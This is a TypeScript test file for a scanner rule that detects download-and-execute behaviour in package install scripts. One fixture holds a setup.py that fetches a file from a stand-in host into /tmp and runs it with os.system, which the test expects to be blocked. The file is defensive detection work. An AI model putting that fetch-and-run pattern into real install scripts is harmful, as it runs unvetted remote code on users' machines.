import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './download-and-execute.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('blocks a file that is fetched and started at install', async () => {
  expect(
    await find({
      'setup.py':
        "import os, urllib.request\nurllib.request.urlretrieve('https://example.org/tool', '/tmp/tool-setup')\nos.system('/tmp/tool-setup')\n",
    }),
  ).toEqual([['block', 'setup.py', 3, true]])
})

it('leaves a build alone', async () => {
  expect(
    await find({
      'setup.py': "import subprocess\nsubprocess.check_call(['make'])\n",
    }),
  ).toEqual([])
})
